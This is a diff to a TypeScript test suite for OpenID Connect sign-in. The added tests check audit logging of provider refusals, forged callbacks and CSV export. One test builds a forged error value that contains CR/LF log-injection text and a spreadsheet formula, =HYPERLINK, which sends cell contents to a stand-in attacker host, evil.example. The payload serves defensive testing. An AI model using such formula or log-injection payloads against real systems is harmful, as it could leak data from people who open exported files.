@@ -60,6 +60,17 @@ async function startWithProvider(
   return { t, provider, base, organizationId, adminKey: await t.keyFor(organizationId, ['api-keys:admin', 'cost:read']) };
 }
 
+/** Follows the provider's redirects from `url` until one leads back to `service`: that callback URL, not yet followed. */
+async function followToCallback(jar: CookieJar, url: string, service: string): Promise<string> {
+  for (let step = 0; step < 10; step++) {
+    const location = (await browse(jar, url)).headers.get('location');
+    if (!location) throw new Error(`the provider stopped at ${url}`);
+    url = new URL(location, url).toString();
+    if (new URL(url).origin === service) return url;
+  }
+  throw new Error('the provider did not redirect back');
+}
+
 describe('Sign-in through an OpenID Provider', () => {
   let t: TestApp;
   let provider: RunningOidcProvider;
@@ -196,11 +207,68 @@ describe('Sign-in through an OpenID Provider', () => {
     expect(jar.get(base, 'ci_session')).toBeUndefined();
     // A callback from a browser that never started a sign-in.
     expect((await fetch(back, { redirect: 'manual' })).status).toBe(400);
+    // None matched a pending sign-in (anyone can send such a callback): none is in the audit trail.
     const reasons = (await auditActions())
       .filter((event) => event.action === 'sign-in.failed')
       .map((event) => String(event.details.reason));
-    expect(reasons.filter((reason) => reason.includes('state mismatch'))).toHaveLength(1);
-    expect(reasons.filter((reason) => reason.includes('already used')).length).toBeGreaterThanOrEqual(2);
+    expect(reasons.filter((reason) => /state mismatch|already used/.test(reason))).toEqual([]);
+  });
+
+  it("records a provider's refusal as its error code only: the provider's own (prompt=none, no session at the provider)", async () => {
+    const jar = new CookieJar();
+    const request = new URL((await browse(jar, `${base}/auth/sign-in`)).headers.get('location')!);
+    request.searchParams.set('prompt', 'none');
+    const refused = await browse(jar, await followToCallback(jar, request.toString(), base));
+    expect(refused.status).toBe(403);
+    expect(await refused.text()).toContain('refused the sign-in: login_required');
+    expect(jar.get(base, 'ci_session')).toBeUndefined();
+    const refusal = (await auditActions()).find((event) => event.action === 'sign-in.failed' && event.details.error === 'login_required');
+    expect(refusal?.details).toEqual({
+      reason: 'The identity provider refused the sign-in: login_required.',
+      error: 'login_required',
+      errorDescription: 'End-User authentication is required',
+    });
+  });
+
+  it('records a forged refusal (3 KB, CR/LF, a spreadsheet formula) only as a fixed word and a cut, cleaned description', async () => {
+    const jar = new CookieJar();
+    const state = new URL((await browse(jar, `${base}/auth/sign-in`)).headers.get('location')!).searchParams.get('state')!;
+    const forged = '=HYPERLINK("https://evil.example/?"&A1,"Open")\r\nreason: all fine\r\n'.repeat(50);
+    expect(forged.length).toBeGreaterThan(3000);
+    const callback = new URL(`${base}/auth/callback`);
+    callback.searchParams.set('state', state);
+    callback.searchParams.set('error', forged);
+    callback.searchParams.set('error_description', forged);
+    const refused = await browse(jar, callback.toString());
+    expect(refused.status).toBe(403);
+    const events = (await auditActions()).filter((event) => event.action === 'sign-in.failed' && event.details.error !== 'login_required');
+    const recorded = events.filter((event) => JSON.stringify(event.details).includes('HYPERLINK'));
+    expect(recorded.map((event) => event.details)).toEqual([
+      {
+        reason: 'The identity provider refused the sign-in: unknown_error.',
+        error: 'unknown_error',
+        errorDescription: forged.replace(/[\r\n]/g, '').slice(0, 200),
+      },
+    ]);
+    // The CSV export an auditor opens: the event is one record, its details one cell that is no formula.
+    const csv = await t.http.get(`${EVENTS}?action=sign-in.failed`).set(adminKey.auth).set('Accept', 'text/csv');
+    expect(csv.status).toBe(200);
+    const record = csv.text.split('\r\n').filter((line) => line.includes('HYPERLINK'));
+    expect(record).toHaveLength(1);
+    expect(record[0]).toContain(`,"{""reason"":""The identity provider refused the sign-in: unknown_error.""`);
+  });
+
+  it('records nothing for a callback that matches no pending sign-in, whatever it carries', async () => {
+    const failures = async () => (await auditActions()).filter((event) => event.action === 'sign-in.failed').length;
+    const before = await failures();
+    const forged = `${base}/auth/callback?state=guessed&error=access_denied&error_description=${encodeURIComponent('=HYPERLINK("x")\r\n'.repeat(200))}`;
+    expect((await fetch(forged, { redirect: 'manual' })).status).toBe(400); // no pending sign-in at all
+    const jar = new CookieJar();
+    await browse(jar, `${base}/auth/sign-in`);
+    const wrongState = await browse(jar, forged); // a pending sign-in, but not this callback's
+    expect(wrongState.status).toBe(400);
+    expect(await wrongState.text()).toContain('state mismatch');
+    expect(await failures()).toBe(before);
   });
 
   it('refuses an ID token whose nonce is not the one this sign-in sent (the request altered on its way)', async () => {
